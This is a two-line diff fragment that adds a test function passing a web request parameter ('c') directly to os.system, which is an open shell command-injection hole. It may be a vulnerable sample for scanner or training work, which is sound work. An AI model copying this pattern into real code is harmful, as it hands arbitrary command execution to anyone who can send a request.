@@ -1,0 +1,2 @@
+def test_x():
+    os.system(request.args["c"])
